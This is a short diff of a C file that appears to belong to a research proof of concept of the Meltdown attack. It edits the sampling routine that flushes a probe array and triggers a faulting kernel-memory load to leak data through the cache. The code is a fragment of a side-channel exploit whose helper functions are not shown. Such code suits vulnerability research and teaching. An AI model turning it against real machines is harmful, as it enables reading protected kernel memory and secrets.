@@ -1,6 +1,6 @@
 /*
  * Meltdown (Lipp et al., 2018): a load of the kernel's memory from user mode faults when it retires;
- * until then its value is used, if the line is in the first-level cache. The secret's users bring it
+ * until then its value is used, if the line is in the first-level cache. A first such load brings it
  * there.
  */
 #include "attack.h"
@@ -9,15 +9,13 @@
 #include "secret.h"
 
 static const uint8_t *probe;
-static uint64_t slow[8] __attribute__((aligned(64)));
 
 static int sample(int index)
 {
 	use_secret(index);
 	flush_probe(probe);
-	flush(slow);
-	memory_fence();
-	send_faulting((const void *)(options.address + index), probe, slow);
+	flush_delays();
+	send_faulting((const void *)(options.address + index), probe);
 	return reload_probe(probe);
 }
 
